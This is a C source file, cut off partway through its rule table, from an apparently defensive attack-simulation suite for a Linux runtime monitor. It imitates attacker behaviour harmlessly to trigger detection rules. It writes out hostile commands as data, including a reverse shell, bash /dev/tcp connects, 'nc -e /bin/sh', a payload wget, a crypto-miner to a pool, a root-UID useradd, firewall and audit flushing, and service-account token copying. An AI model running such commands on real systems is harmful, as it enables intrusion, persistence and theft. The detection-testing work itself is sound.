// SPDX-License-Identifier: Apache-2.0
/*
 * The behaviours of the attack-simulation suite, one per bundled rule.
 *
 * Each one does what an attacker does, made harmless: files are read, not
 * changed (a write-open of /etc/passwd writes nothing; files created below
 * /etc are empty, uniquely named and removed at once), programs are copies of
 * /bin/true named like the attacker's tool, "remote" hosts are loopback
 * listeners, kernel-facing calls fail by design (init_module with garbage,
 * mounts onto a directory that does not exist), ptrace targets are the
 * scenario's own children, and the one signal sent to vigil is SIGCONT.
 * Each runs in a child the runner forked (or as pid 1 of a test container)
 * and returns one of the SC_* codes of attacks.h, or execs.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/capability.h>
#include <linux/if_ether.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "attacks.h"

extern char **environ;

/* --- building blocks ------------------------------------------------------------- */

static int run_tool(const struct scenario *s)
{
	char path[128];
	const char *argv[10] = { s->tool };
	size_t n = 1;

	for (size_t i = 0; i < 8 && s->args[i]; i++)
		argv[n++] = s->args[i];
	argv[n] = NULL;
	execv(tool_path(s->tool, path, sizeof(path)), (char *const *)argv);
	return 127;
}

/* Run `script` with a copy of bash named `name` (its process name). */
static int run_named_shell(const char *name, const char *script)
{
	char path[128];

	execl(shell_path(name, path, sizeof(path)), name, "-c", script, (char *)NULL);
	return 127;
}

static int drop_to_nobody(void)
{
	return setresgid(65534, 65534, 65534) || setresuid(65534, 65534, 65534) ? -1 : 0;
}

/* Create `dir`/`name` empty (and `dir` when missing), then remove what was
 * created: the write-open is the behaviour. */
static int create_and_remove(const char *dir, const char *name, unsigned mode)
{
	char path[256];
	bool made_dir = false;
	int fd;

	if (mkdir(dir, 0755) == 0)
		made_dir = true;
	else if (errno != EEXIST)
		return SC_FAIL(1);
	snprintf(path, sizeof(path), "%s/%s", dir, name);
	fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, mode);
	if (fd >= 0) {
		close(fd);
		unlink(path);
	}
	if (made_dir)
		rmdir(dir);
	return fd >= 0 ? 0 : SC_FAIL(2);
}

static int unique_name(char *buf, size_t size, const char *suffix)
{
	return snprintf(buf, size, "vigil-attack-%d%s", (int)getpid(), suffix);
}

/* A child that waits to be killed: a target for ptrace. */
static pid_t sleeper(void)
{
	pid_t pid = fork();

	if (pid == 0) {
		close(REPORT_FD);
		for (;;)
			pause();
	}
	return pid;
}

static void reap(pid_t pid)
{
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
}

static int connect_to(const char *ip, unsigned short port)
{
	struct sockaddr_in sin = { .sin_family = AF_INET, .sin_port = htons(port) };
	int s = socket(AF_INET, SOCK_STREAM, 0);

	if (s < 0 || inet_pton(AF_INET, ip, &sin.sin_addr) != 1)
		return -1;
	connect(s, (struct sockaddr *)&sin, sizeof(sin)); /* refused or unreachable is fine */
	return s;
}

/* Open and close: the open is the behaviour. 0 or -1. */
static int open_close(const char *path, int flags, unsigned mode)
{
	int fd = open(path, flags | O_CLOEXEC, mode);

	if (fd < 0)
		return -1;
	close(fd);
	return 0;
}

/* Load a socket filter that returns 0: the smallest eBPF program there is. */
static int load_bpf_prog(void)
{
	struct bpf_insn insns[] = {
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0, .imm = 0 },
		{ .code = BPF_JMP | BPF_EXIT },
	};
	union bpf_attr attr;

	memset(&attr, 0, sizeof(attr));
	attr.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
	attr.insn_cnt = 2;
	attr.insns = (__u64)(unsigned long)insns;
	attr.license = (__u64)(unsigned long)"GPL";
	return (int)syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof(attr));
}

/* --- credential access ----------------------------------------------------------- */

static int read_file(const char *path)
{
	return open_close(path, O_RDONLY, 0) ? SC_FAIL(3) : 0;
}

static int read_path(const struct scenario *s)
{
	return read_file(s->arg);
}

/* s->arg below the fake user's home */
static int read_home_file(const struct scenario *s)
{
	char path[128];

	snprintf(path, sizeof(path), "%s/%s", env.home, s->arg);
	return read_file(path);
}

/* grep -r for s->arg in an empty directory */
static int grep_for(const struct scenario *s)
{
	char dir[128];

	snprintf(dir, sizeof(dir), "%s/empty", env.dir);
	execl("/usr/bin/grep", "grep", "-rl", s->arg, dir, (char *)NULL);
	execl("/bin/grep", "grep", "-rl", s->arg, dir, (char *)NULL);
	return 127;
}

static int symlink_shadow(const struct scenario *s)
{
	char path[128];
	int r;

	snprintf(path, sizeof(path), "%s/private/shadow-link-%d", env.dir, (int)getpid());
	r = symlink("/etc/shadow", path);
	unlink(path);
	return r ? SC_FAIL(4) : 0;
}

static int hardlink_shadow(const struct scenario *s)
{
	char path[128];

	/* into a 0700 directory, removed at once; another filesystem (EXDEV)
	 * is an attempt all the same */
	snprintf(path, sizeof(path), "%s/private/shadow-hard-%d", env.dir, (int)getpid());
	if (link("/etc/shadow", path) == 0)
		unlink(path);
	return 0;
}

/* Read /proc/CHILD/<s->arg> of a child of ours. */
static int read_proc_file(const struct scenario *s)
{
	char path[64];
	pid_t target = sleeper();
	int r;

	if (target < 0)
		return SC_FAIL(5);
	snprintf(path, sizeof(path), "/proc/%d/%s", (int)target, s->arg);
	r = read_file(path);
	reap(target);
	return r;
}

/* --- privilege escalation ---------------------------------------------------------- */

static int setuid_root_refused(const struct scenario *s)
{
	if (drop_to_nobody())
		return SC_FAIL(6);
	return setuid(0) == -1 && errno == EPERM ? 0 : SC_FAIL(7);
}

static int chmod_setuid(const struct scenario *s)
{
	char path[128];
	int r;

	snprintf(path, sizeof(path), "%s/private/suid-%d", env.dir, (int)getpid());
	if (close(open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0700)))
		return SC_FAIL(8);
	r = chmod(path, s->arg ? 02755 : 04755);
	unlink(path);
	return r ? SC_FAIL(9) : 0;
}

static int run_setuid_from_tmp(const struct scenario *s)
{
	char path[128];

	if (!env.suid_ok)
		return SC_SKIP;
	tool_path("suid-true", path, sizeof(path));
	if (drop_to_nobody())
		return SC_FAIL(10);
	execl(path, "suid-true", (char *)NULL);
	return 127;
}

static int raise_capabilities(const struct scenario *s)
{
	struct __user_cap_header_struct hdr = { .version = _LINUX_CAPABILITY_VERSION_3 };
	struct __user_cap_data_struct data[2];

	/* keep the permitted set across the switch to nobody, then make it
	 * effective again */
	if (prctl(PR_SET_KEEPCAPS, 1, 0, 0, 0) || drop_to_nobody())
		return SC_FAIL(11);
	if (syscall(SYS_capget, &hdr, data))
		return SC_FAIL(12);
	data[0].effective = data[0].permitted;
	data[1].effective = data[1].permitted;
	return syscall(SYS_capset, &hdr, data) ? SC_FAIL(13) : 0;
}

static int sudo_below_server(const struct scenario *s)
{
	char sudo[128], script[256];

	tool_path("sudo", sudo, sizeof(sudo));
	snprintf(script, sizeof(script), "(echo $BASHPID >&%d; exec %s -n true); exit 0", REPORT_FD,
		 sudo);
	return run_named_shell("nginx", script);
}

static int exec_without_argv(const struct scenario *s)
{
	char path[128];
	char *const argv[] = { NULL };

	execve(tool_path("pkexec", path, sizeof(path)), argv, environ);
	return 127;
}

/* --- files below /etc and friends ------------------------------------------------------ */

/* An empty, uniquely named file created in the directory s->arg (and
 * removed at once); *.service below systemd's directories. */
static int touch_in(const struct scenario *s)
{
	char name[64];

	unique_name(name, sizeof(name), strstr(s->arg, "systemd") ? ".service" : "");
	return create_and_remove(s->arg, name, strstr(s->arg, "sudoers") ? 0440 : 0644);
}

static int write_ld_preload(const struct scenario *s)
{
	/* An empty ld.so.preload changes nothing; one that exists is opened for
	 * appending and left as it is. */
	if (open_close("/etc/ld.so.preload", O_WRONLY | O_CREAT | O_EXCL, 0644) == 0)
		return unlink("/etc/ld.so.preload") ? SC_FAIL(14) : 0;
	return open_close("/etc/ld.so.preload", O_WRONLY | O_APPEND, 0) ? SC_FAIL(14) : 0;
}

static int append_to(const char *path, unsigned mode)
{
	return open_close(path, O_WRONLY | O_APPEND | O_CREAT, mode) ? SC_FAIL(15) : 0;
}

/* Open s->arg for writing, and write nothing. */
static int open_for_writing(const struct scenario *s)
{
	return open_close(s->arg, O_WRONLY | O_APPEND, 0) ? SC_FAIL(16) : 0;
}

/* Open s->arg below the fake home for appending (creating it). */
static int append_home_file(const struct scenario *s)
{
	char path[128];

	snprintf(path, sizeof(path), "%s/%s", env.home, s->arg);
	return append_to(path, 0600);
}

/* Create `path`, then empty it with O_TRUNC. */
static int truncate_file(const char *path)
{
	if (append_to(path, 0640))
		return SC_FAIL(17);
	return open_close(path, O_WRONLY | O_TRUNC, 0) ? SC_FAIL(18) : 0;
}

static int clear_log(const struct scenario *s)
{
	char path[128];
	int r;

	snprintf(path, sizeof(path), "/var/log/vigil-attack-%d.log", (int)getpid());
	r = truncate_file(path);
	unlink(path);
	return r;
}

static int delete_log(const struct scenario *s)
{
	char path[128];

	snprintf(path, sizeof(path), "/var/log/vigil-attack-%d-old.log", (int)getpid());
	if (append_to(path, 0640))
		return SC_FAIL(19);
	return unlink(path) ? SC_FAIL(20) : 0;
}

static int clear_history(const struct scenario *s)
{
	char path[128];

	snprintf(path, sizeof(path), "%s/.bash_history", env.home);
	return truncate_file(path);
}

/* --- defense evasion and execution ------------------------------------------------ */

static int exec_from_shm(const struct scenario *s)
{
	execl(env.shm, "true", (char *)NULL);
	return errno == EACCES ? SC_SKIP : 127; /* /dev/shm mounted noexec */
}

static int exec_from_memfd(const struct scenario *s)
{
	char buf[65536];
	char *const argv[] = { "vigil-attack", NULL };
	int fd = (int)syscall(SYS_memfd_create, "vigil-attack", 0), in = open("/bin/true", O_RDONLY);
	ssize_t n;

	if (fd < 0 || in < 0)
		return SC_FAIL(21);
	while ((n = read(in, buf, sizeof(buf))) > 0)
		if (write(fd, buf, (size_t)n) != n)
			return SC_FAIL(22);
	syscall(SYS_execveat, fd, "", argv, environ, AT_EMPTY_PATH);
	return 127;
}

static int exec_as_kernel_thread(const struct scenario *s)
{
	char path[128];

	execl(tool_path("it-true", path, sizeof(path)), "[kworker/0:1]", (char *)NULL);
	return 127;
}

static int shred_file(const struct scenario *s)
{
	char path[128];

	snprintf(path, sizeof(path), "%s/private/shred-me-%d", env.dir, (int)getpid());
	if (append_to(path, 0600))
		return SC_FAIL(23);
	execl("/usr/bin/shred", "shred", "-u", "-n", "1", path, (char *)NULL);
	return 127;
}

static int reverse_shell(const struct scenario *s)
{
	int sock = connect_to("127.0.0.1", env.port);

	if (sock < 0 || dup2(sock, 0) < 0 || dup2(sock, 1) < 0 || dup2(sock, 2) < 0)
		return SC_FAIL(24);
	execl("/bin/sh", "sh", "-c", "exit 0", (char *)NULL);
	return 127;
}

/* bash's /dev/tcp to the stand-in remote host, by a copy of bash named
 * `name` (or bash itself when name is NULL) */
static int dev_tcp(const char *name, unsigned short port)
{
	char script[128];

	if (!env.far_ip[0])
		return SC_SKIP;
	snprintf(script, sizeof(script), "exec 5<>/dev/tcp/%s/%u", env.far_ip, port);
	if (name)
		return run_named_shell(name, script);
	execl("/bin/bash", "bash", "-c", script, (char *)NULL);
	return 127;
}

static int bash_dev_tcp(const struct scenario *s)
{
	return dev_tcp(NULL, env.far_port);
}

static int python_connect(const struct scenario *s)
{
	char code[160];

	if (!env.far_ip[0])
		return SC_SKIP;
	snprintf(code, sizeof(code), "import socket; socket.create_connection(('%s', %u)).close()",
		 env.far_ip, env.far_port);
	execl("/usr/bin/python3", "python3", "-c", code, (char *)NULL);
	snprintf(code, sizeof(code), "use IO::Socket::INET; IO::Socket::INET->new('%s:%u')",
		 env.far_ip, env.far_port);
	execl("/usr/bin/perl", "perl", "-e", code, (char *)NULL);
	return 127;
}

static int shell_below_server(const struct scenario *s)
{
	char script[128];

	snprintf(script, sizeof(script), "(echo $BASHPID >&%d; exec /bin/sh -c 'exit 0'); exit 0",
		 REPORT_FD);
	return run_named_shell("nginx", script);
}

static int system_user_session(const struct scenario *s)
{
	char tool[128], script[256];

	tool_path("it-true", tool, sizeof(tool));
	snprintf(script, sizeof(script), "(echo $BASHPID >&%d; exec %s); exit 0", REPORT_FD, tool);
	if (drop_to_nobody())
		return SC_FAIL(25);
	return run_named_shell("sshd", script);
}

/* --- lateral movement and C2 ------------------------------------------------------------ */

static int ssh_to_port_4444(const struct scenario *s)
{
	return dev_tcp("ssh", 4444);
}

static int connect_mining_pool(const struct scenario *s)
{
	if (!env.far_ip[0])
		return SC_SKIP;
	return connect_to(env.far_ip, 3333) < 0 ? SC_FAIL(26) : 0;
}

static int silent_program_connects(const struct scenario *s)
{
	return dev_tcp("cat", env.far_port);
}

/* --- kernel, modules, BPF, ptrace --------------------------------------------------------- */

static int load_module_garbage(const struct scenario *s)
{
	static const char junk[64] = "not an ELF module";

	/* refused (ENOEXEC, EPERM...): the attempt is the behaviour */
	syscall(SYS_init_module, junk, sizeof(junk), "");
	return 0;
}

static int bpf_prog_load(const struct scenario *s)
{
	int fd = load_bpf_prog();

	if (fd < 0)
		return SC_FAIL(27);
	close(fd);
	return 0;
}

static int bpf_prog_load_garbage(const struct scenario *s)
{
	union bpf_attr attr;

	memset(&attr, 0, sizeof(attr));
	syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof(attr)); /* EINVAL */
	return 0;
}

static int bpf_link_by_id(const struct scenario *s)
{
	union bpf_attr attr;

	memset(&attr, 0, sizeof(attr));
	attr.link_id = 0x7ffffff0; /* no such link: ENOENT */
	syscall(SYS_bpf, BPF_LINK_GET_FD_BY_ID, &attr, sizeof(attr));
	return 0;
}

static int bpf_unpin(const struct scenario *s)
{
	char path[64];
	union bpf_attr attr;
	int fd = load_bpf_prog();

	snprintf(path, sizeof(path), "/sys/fs/bpf/vigil-attack-%d", (int)getpid());
	memset(&attr, 0, sizeof(attr));
	attr.pathname = (__u64)(unsigned long)path;
	attr.bpf_fd = (__u32)fd;
	if (fd >= 0)
		syscall(SYS_bpf, BPF_OBJ_PIN, &attr, sizeof(attr));
	unlink(path); /* without bpffs, a failed unlink is the attempt */
	return 0;
}

static int ptrace_child(const struct scenario *s)
{
	pid_t target = sleeper();
	int r;

	if (target < 0)
		return SC_FAIL(28);
	r = (int)ptrace(PTRACE_ATTACH, target, NULL, NULL);
	if (r == 0)
		waitpid(target, NULL, 0);
	reap(target);
	return r ? SC_FAIL(29) : 0;
}

static int ptrace_traceme(const struct scenario *s)
{
	return ptrace(PTRACE_TRACEME, 0, NULL, NULL) ? SC_FAIL(30) : 0;
}

static int signal_vigil(const struct scenario *s)
{
	return kill(env.vigil_pid, SIGCONT) ? SC_FAIL(31) : 0; /* vigil just goes on */
}

static int ptrace_vigil(const struct scenario *s)
{
	if (drop_to_nobody())
		return SC_FAIL(32);
	/* refused with EPERM: nobody may not trace root */
	return ptrace(PTRACE_ATTACH, env.vigil_pid, NULL, NULL) == -1 ? 0 : SC_FAIL(33);
}

/* pidfd_open + pidfd_send_signal: SIGCONT, vigil just goes on */
static int pidfd_signal_vigil(const struct scenario *s)
{
	int fd = (int)syscall(SYS_pidfd_open, env.vigil_pid, 0);

	if (fd < 0)
		return SC_FAIL(34);
	if (syscall(SYS_pidfd_send_signal, fd, SIGCONT, NULL, 0))
		return SC_FAIL(35);
	close(fd);
	return 0;
}

/* refused with EPERM: nobody may not read root's memory */
static int vm_read_vigil(const struct scenario *s)
{
	char buf[16];
	struct iovec local = { .iov_base = buf, .iov_len = sizeof(buf) };
	struct iovec remote = { .iov_base = (void *)0x400000, .iov_len = sizeof(buf) };

	if (drop_to_nobody())
		return SC_FAIL(36);
	return process_vm_readv(env.vigil_pid, &local, 1, &remote, 1, 0) == -1 ? 0 : SC_FAIL(37);
}

/* TCP Fast Open to a pool port: connected by sendto, no connect(2) */
static int fastopen_mining_pool(const struct scenario *s)
{
	struct sockaddr_in sin = { .sin_family = AF_INET, .sin_port = htons(3333) };
	int fd;

	if (!env.far_ip[0])
		return SC_SKIP;
	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0 || inet_pton(AF_INET, env.far_ip, &sin.sin_addr) != 1)
		return SC_FAIL(38);
	sendto(fd, "x", 1, MSG_FASTOPEN | MSG_NOSIGNAL, (struct sockaddr *)&sin, sizeof(sin));
	close(fd);
	return 0;
}

/* --- in a container ---------------------------------------------------------------------- */

/* A mount point that does not exist: the mount fails (ENOENT) after the
 * kernel has seen the attempt. */
#define NO_SUCH_DIR "/vigil-attack-no-such-dir"

static int mount_block_device(const struct scenario *s)
{
	mount(env.rootdev, NO_SUCH_DIR, "ext4", MS_RDONLY, NULL);
	return 0;
}

static int mount_cgroupfs(const struct scenario *s)
{
	mount("cgroup", NO_SUCH_DIR, "cgroup", 0, NULL);
	return 0;
}

static int setns_to_host(const struct scenario *s)
{
	return setns(env.host_netns, CLONE_NEWNET) ? SC_FAIL(34) : 0;
}

static int connect_runtime_socket(const struct scenario *s)
{
	struct sockaddr_un sun = { .sun_family = AF_UNIX, .sun_path = "/run/docker.sock" };
	int sock = socket(AF_UNIX, SOCK_STREAM, 0);

	if (sock < 0)
		return SC_FAIL(35);
	connect(sock, (struct sockaddr *)&sun, sizeof(sun)); /* no docker: ENOENT */
	close(sock);
	return 0;
}

static int unshare_userns(const struct scenario *s)
{
	if (unshare(CLONE_NEWUSER))
		/* the kernel refuses user namespaces to a chrooted process */
		return errno == EPERM && in_chroot() ? SC_SKIP : SC_FAIL(37);
	return 0;
}

static int open_raw_disk(const struct scenario *s)
{
	/* nothing is read; a device cgroup may refuse the open (EPERM): the
	 * attempt is what counts */
	open_close(env.rootdev, O_RDONLY, 0);
	return 0;
}

static int packet_socket(const struct scenario *s)
{
	int sock = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));

	if (sock < 0)
		return SC_FAIL(39);
	close(sock);
	return 0;
}

/* The container's network namespace has only a loopback that is down:
 * these connects fail (ENETUNREACH) after the kernel saw them. */
static int connect_k8s_api(const struct scenario *s)
{
	return connect_to("10.96.0.1", 443) < 0 ? SC_FAIL(40) : 0; /* kubeadm's service IP */
}

static int connect_metadata(const struct scenario *s)
{
	return connect_to("169.254.169.254", 80) < 0 ? SC_FAIL(41) : 0;
}

static int container_shell(const struct scenario *s)
{
	execl("/bin/sh", "sh", "-c", "exit 0", (char *)NULL);
	return 127;
}

/* A shell with a terminal: a new session whose controlling tty is a pty. */
static int container_tty_shell(const struct scenario *s)
{
	int master = posix_openpt(O_RDWR | O_NOCTTY), slave;
	const char *name;

	if (master < 0 || grantpt(master) || unlockpt(master) || !(name = ptsname(master)))
		return SC_FAIL(42);
	if (setsid() < 0 || (slave = open(name, O_RDWR)) < 0 || ioctl(slave, TIOCSCTTY, 0))
		return SC_FAIL(43);
	dup2(slave, 0);
	dup2(slave, 1);
	dup2(slave, 2);
	execl("/bin/sh", "sh", "-c", "exit 0", (char *)NULL);
	return 127;
}

static int container_drop_executable(const struct scenario *s)
{
	char path[128];

	snprintf(path, sizeof(path), "%s/private/dropped-%lld", env.dir, (long long)time(NULL));
	if (open_close(path, O_WRONLY | O_CREAT | O_TRUNC, 0755))
		return SC_FAIL(44);
	return unlink(path) ? SC_FAIL(45) : 0;
}

static int container_exec_from_tmp(const struct scenario *s)
{
	char path[128];

	execl(tool_path("it-true", path, sizeof(path)), "it-true", (char *)NULL);
	return 127;
}

/* --- names that cannot be claimed --------------------------------------------------------- */

/*
 * The allowlists trust programs by executable path, not by name: a process
 * that takes a trusted program's name, with prctl(PR_SET_NAME) or by being
 * a renamed copy of another program, is judged as what it runs.
 */
static int claim_name(const char *name)
{
	return prctl(PR_SET_NAME, name, 0, 0, 0);
}

/* In a container, called systemd-udevd (the name the enforcing module rule
 * spares in the kernel), load a module. */
static int claimed_udevd_loads_module(const struct scenario *s)
{
	if (claim_name("systemd-udevd"))
		return SC_FAIL(1);
	return load_module_garbage(s);
}

/* Called dpkg, write sudo policy. */
static int claimed_dpkg_writes_sudoers(const struct scenario *s)
{
	if (claim_name("dpkg"))
		return SC_FAIL(1);
	return touch_in(s);
}

/* A copy of bash saved as sudo reads /etc/shadow itself. */
static int copied_sudo_reads_shadow(const struct scenario *s)
{
	return run_named_shell("sudo", "read -r line < /etc/shadow; exit 0");
}

/* Below a copy of bash saved as dpkg (a package manager's maintainer
 * scripts are trusted by their ancestor's executable), a shell drops a
 * program into /usr/local/bin. */
static int below_copied_dpkg_drops_program(const struct scenario *s)
{
	char script[256];

	snprintf(script, sizeof(script),
		 "(echo $BASHPID >&%d; exec /bin/sh -c 'f=/usr/local/bin/vigil-attack-$$; "
		 ": > $f && rm -f $f'); exit 0",
		 REPORT_FD);
	return run_named_shell("dpkg", script);
}

/* A copy of bash saved as dpkg writes a cron job. A system without cron
 * (a minimal Debian root) has no /etc/cron.d: made for the time of the
 * write, as create_and_remove() does. */
static int copied_dpkg_writes_cron(const struct scenario *s)
{
	bool made_dir = false;
	int rc;

	if (mkdir("/etc/cron.d", 0755) == 0)
		made_dir = true;
	else if (errno != EEXIST)
		return SC_FAIL(1);
	rc = run_named_shell("dpkg", "f=/etc/cron.d/vigil-attack-$$; : > $f && rm -f $f");
	if (made_dir)
		rmdir("/etc/cron.d");
	return rc;
}

/* A file made in our own directory, then moved to s->arg/NAME with
 * rename(2) (across filesystems it fails with EXDEV: the attempt is the
 * behaviour), and removed. */
static int move_into(const struct scenario *s)
{
	char from[128], to[128];
	int r;

	snprintf(from, sizeof(from), "%s/private/moved-%d", env.dir, (int)getpid());
	snprintf(to, sizeof(to), "%s/vigil-attack-%d", s->arg, (int)getpid());
	if (open_close(from, O_WRONLY | O_CREAT | O_EXCL, 0644))
		return SC_FAIL(6);
	r = rename(from, to);
	unlink(r ? from : to);
	return r && errno != EXDEV ? SC_FAIL(7) : 0;
}

/* A new program dropped into s->arg (empty, removed at once). */
static int drop_program(const struct scenario *s)
{
	char name[64];

	unique_name(name, sizeof(name), "");
	return create_and_remove(s->arg, name, 0755);
}

/* sshd opening a liblzma 5.6.1 (an empty file) where Debian keeps
 * libraries: in the container's own mount namespace, over a tmpfs, so that
 * the host's library directory is not touched. */
static int sshd_loads_xz_backdoor(const struct scenario *s)
{
	const char *dir = "/usr/lib/x86_64-linux-gnu";
	char path[128];

	if (mount("none", dir, "tmpfs", 0, "size=64k"))
		return SC_FAIL(10);
	snprintf(path, sizeof(path), "%s/liblzma.so.5.6.1", dir);
	if (open_close(path, O_WRONLY | O_CREAT | O_EXCL, 0644) || claim_name("sshd"))
		return SC_FAIL(11);
	return read_file(path);
}

/* A database server (a copy of bash named mysqld) starting a program. */
static int program_below_database(const struct scenario *s)
{
	char tool[128], script[256];

	tool_path("it-true", tool, sizeof(tool));
	snprintf(script, sizeof(script), "(echo $BASHPID >&%d; exec %s); exit 0", REPORT_FD, tool);
	return run_named_shell("mysqld", script);
}

/* --- the table ------------------------------------------------------------------------- */

#define HOST(rule, fn) { rule, fn, 0, NULL, NULL, { NULL }, NULL }
#define HOSTARG(rule, fn, arg) { rule, fn, 0, arg, NULL, { NULL }, NULL }
#define CONT(rule, fn) { rule, fn, IN_CONTAINER, NULL, NULL, { NULL }, NULL }
#define TOOL(rule, flags, tool, ...) { rule, run_tool, flags, NULL, tool, { __VA_ARGS__, NULL }, NULL }

const struct scenario scenarios[] = {
	/* credential access */
	HOSTARG("Read sensitive file untrusted", read_path, "/etc/shadow"),
	HOSTARG("Directory traversal read of monitored file", read_path,
		"/etc/../etc/../etc/passwd"),
	HOSTARG("Read SSH private key", read_home_file, ".ssh/id_ed25519"),
	HOSTARG("Read cloud credentials", read_home_file, ".aws/credentials"),
	HOSTARG("Search for private keys or passwords", grep_for, "BEGIN RSA PRIVATE KEY"),
	HOSTARG("Search for cloud credentials", grep_for, "aws_secret_access_key"),
	HOST("Symlink to sensitive file", symlink_shadow),
	HOST("Hardlink to sensitive file", hardlink_shadow),
	HOSTARG("Process memory read through procfs", read_proc_file, "mem"),
	HOSTARG("Process environment read through procfs", read_proc_file, "environ"),
	/* privilege escalation */
	HOST("Setuid to root by non-root process", setuid_root_refused),
	HOST("Setuid or setgid bit set on a file", chmod_setuid),
	{ "Setuid or setgid bit set on a file", chmod_setuid, 0, "setgid", NULL, { NULL },
	  "the setgid bit" },
	HOST("Setuid-root program run from writable directory", run_setuid_from_tmp),
	HOST("Dangerous capability raised by non-root process", raise_capabilities),
	HOST("Privilege tool run by a server process", sudo_below_server),
	HOST("Program started with empty argument list", exec_without_argv),
	TOOL("Sudoedit heap overflow attempt", 0, "sudoedit", "-s", "\\", "AAAAAAAA"),
	TOOL("Privilege tool run in a container", IN_CONTAINER, "su", "-c", "id"),
	HOSTARG("Write below sudoers", touch_in, "/etc/sudoers.d"),
	HOST("Write to ld.so.preload", write_ld_preload),
	/* container escape */
	CONT("Block device mounted in a container", mount_block_device),
	CONT("Kernel filesystem mounted in a container", mount_cgroupfs),
	CONT("Namespace change from a container", setns_to_host),
	TOOL("Nsenter into the init process namespaces", 0, "nsenter", "-t", "1", "-m", "-u",
	     "-n", "-p", "true"),
	CONT("Container runtime socket connect", connect_runtime_socket),
	{ "Write to kernel usermode helper", open_for_writing, IN_CONTAINER,
	  "/proc/sys/kernel/core_pattern", NULL, { NULL }, NULL },
	HOST("Ptrace attach by non-debugger", ptrace_child),
	HOST("Ptrace anti-debug attempt", ptrace_traceme),
	CONT("Ptrace from a container", ptrace_child),
	CONT("User namespace created in a container", unshare_userns),
	{ "Kernel module load from a container", load_module_garbage, IN_CONTAINER | ENFORCED,
	  NULL, NULL, { NULL }, NULL },
	HOST("Kernel module load by unexpected program", load_module_garbage),
	CONT("BPF use from a container", bpf_prog_load_garbage),
	HOST("BPF program loaded", bpf_prog_load),
	CONT("Raw disk or kernel memory opened in a container", open_raw_disk),
	TOOL("Debugfs launched in a container", IN_CONTAINER, "debugfs", "-R", "stats", "/dev/null"),
	/* persistence */
	HOSTARG("Write to cron configuration", touch_in, "/etc/cron.d"),
	HOSTARG("Write to systemd unit", touch_in, "/etc/systemd/system"),
	HOSTARG("Write to init scripts", touch_in, "/etc/init.d"),
	HOSTARG("Write to shell profile", append_home_file, ".bashrc"),
	HOSTARG("Write to SSH authorized keys", append_home_file, ".ssh/authorized_keys"),
	HOSTARG("Write to PAM configuration", touch_in, "/etc/pam.d"),
	HOSTARG("Write to account database", open_for_writing, "/etc/passwd"),
	TOOL("Local account created", 0, "useradd", "-o", "-u", "0", "vigil-attack"),
	HOSTARG("File written below /etc", touch_in, "/etc"),
	{ "File written below /etc", move_into, 0, "/etc", NULL, { NULL }, "moved in with rename" },
	HOSTARG("Program written to a binary directory", drop_program, "/usr/local/bin"),
	TOOL("Package manager run in a container", IN_CONTAINER, "apt-get", "install", "-y", "nmap"),
	CONT("Executable file created in a container", container_drop_executable),
	CONT("Execution from writable directory in a container", container_exec_from_tmp),
	/* defense evasion */
	HOST("Log file cleared", clear_log),
	HOST("Log file deleted", delete_log),
	HOST("Shell history tampered", clear_history),
	TOOL("Audit system disabled", 0, "auditctl", "-D"),
	TOOL("Security service stopped", 0, "systemctl", "stop", "auditd"),
	HOST("Execution from /dev/shm", exec_from_shm),
	HOST("Fileless execution from memfd", exec_from_memfd),
	HOSTARG("File created below /dev", touch_in, "/dev"),
	CONT("Backdoored xz library loaded by sshd", sshd_loads_xz_backdoor),
	HOST("Process masquerading as system program", exec_as_kernel_thread),
	HOST("Bulk data destruction", shred_file),
	TOOL("Immutable attribute set", 0, "chattr", "+i", "/tmp/vigil-attack-locked"),
	TOOL("Firewall rules flushed", 0, "iptables", "-F"),
	/* discovery */
	TOOL("Network scanner run", 0, "nmap", "-sT", "-p", "22", "127.0.0.1"),
	TOOL("Network discovery in a container", IN_CONTAINER, "ifconfig", "-a"),
	CONT("Packet socket created in a container", packet_socket),
	CONT("Kubernetes API contacted from a container", connect_k8s_api),
	CONT("Cloud metadata service contacted from a container", connect_metadata),
	/* execution */
	CONT("Shell spawned in a container", container_shell),
	CONT("Terminal shell in a container", container_tty_shell),
	HOST("Shell spawned by a server process", shell_below_server),
	HOST("Program spawned by a database server", program_below_database),
	HOST("Reverse shell socket on standard input or output", reverse_shell),
	HOST("Shell opened network connection", bash_dev_tcp),
	HOST("Interpreter one-liner opened network connection", python_connect),
	TOOL("Netcat with command execution", 0, "nc", "-e", "/bin/sh", "127.0.0.1", "4444"),
	HOST("System account ran an interactive command", system_user_session),
	/* lateral movement and command and control */
	TOOL("SSH client run in a container", IN_CONTAINER, "ssh", "-p", "22", "root@10.0.0.1"),
	TOOL("File transfer tool run in a container", IN_CONTAINER, "wget", "-q",
	     "http://192.0.2.1/payload"),
	TOOL("Files copied out through the Kubernetes API", 0, "kubectl", "cp",
	     "default/web-0:/var/run/secrets/kubernetes.io/serviceaccount/token", "/tmp/token"),
	HOST("SSH connection to non-standard port", ssh_to_port_4444),
	HOST("Connection to mining pool port", connect_mining_pool),
	TOOL("Cryptocurrency miner started", 0, "xmrig", "-o", "stratum+tcp://192.0.2.1:3333", "-u",
	     "wallet"),
	HOST("Network connection by program that makes none", silent_program_connects),
	/* tampering with vigil */
	HOST("Signal sent to vigil", signal_vigil),
	HOST("Ptrace of vigil", ptrace_vigil),
	HOST("BPF pin removed", bpf_unpin),
	HOST("BPF objects of other programs accessed", bpf_link_by_id),
	HOSTARG("Vigil rules or binary modified", touch_in, "/etc/vigil"),
	/* trusted names claimed: still caught */
